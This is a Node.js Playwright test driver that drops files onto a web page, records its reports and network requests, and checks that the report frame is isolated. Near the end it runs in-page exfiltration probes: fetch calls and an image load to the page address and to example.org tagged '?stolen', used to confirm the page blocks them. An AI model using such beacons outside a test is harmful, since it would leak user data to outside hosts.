// Opens the page in a browser, drops files on it, and tells what came: node drive.mjs BROWSER ADDRESS ROUND... where a
// round is a JSON list of paths.
import { readFileSync } from "node:fs";
import { basename } from "node:path";
import { chromium } from "playwright-core";

const [executablePath, address, ...rounds] = process.argv.slice(2);
const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--disable-gpu"] });
const page = await browser.newPage();
const requests = [], consoled = [], told = [];
page.on("request", (request) => requests.push(request.url()));
page.on("console", (message) => consoled.push(message.text()));
page.on("pageerror", (error) => consoled.push(String(error)));
await page.goto(address);
await page.waitForFunction(() => document.documentElement.dataset.ready || !document.querySelector("#fault").hidden, null, { timeout: 120000 });
const before = requests.length;
for (const [number, round] of rounds.entries()) {
  const files = JSON.parse(round).map((path) => [basename(path), readFileSync(path).toString("base64")]);
  await page.evaluate((files) => {
    const data = new DataTransfer();
    for (const [name, text] of files) data.items.add(new File([Uint8Array.from(atob(text), (c) => c.charCodeAt(0))], name));
    document.querySelector("#drop").dispatchEvent(new DragEvent("drop", { bubbles: true, dataTransfer: data }));
  }, files);
  await page.waitForFunction((done) => Number(document.documentElement.dataset.done) >= done, number + 1, { timeout: 120000 });
  told.push(await page.evaluate(() => ({
    report: document.querySelector("#report").srcdoc,
    state: document.querySelector("#state").textContent,
    fault: document.querySelector("#fault").textContent,
  })));
}
const frame = rounds.length && page.frames().find((each) => each !== page.mainFrame());
if (frame) await frame.waitForSelector("#filters", { state: "attached" });
const shown = frame ? await frame.evaluate(() => ({
  rows: document.querySelectorAll("tr[data-code]").length,
  filters: !document.querySelector("#filters").hidden,
  colour: getComputedStyle(document.querySelector(".badge") ?? document.body).backgroundColor,
  parent: (() => { try { return typeof parent.document; } catch { return "refused"; } })(),
})) : null;
const own = requests.slice(before).filter((url) => !url.startsWith("about:") && !url.startsWith("data:"));
// what a program in the page could try
const sent = await page.evaluate(async (address) => {
  const tries = [() => fetch(address + "?stolen"), () => fetch("https://example.org/?stolen"),
    () => new Promise((done, failed) => { const image = new Image(); image.onload = done; image.onerror = failed; image.src = address + "?stolen"; })];
  return Promise.all(tries.map((each) => each().then(() => "sent", () => "refused")));
}, address);
const ready = await page.evaluate(() => ({ ready: document.documentElement.dataset.ready, fault: document.querySelector("#fault").textContent }));
if (process.env.PICTURE) await page.screenshot({ path: process.env.PICTURE, fullPage: true });
console.log(JSON.stringify({ ...ready, told, shown, own, sent, consoled, requests }));
await browser.close();
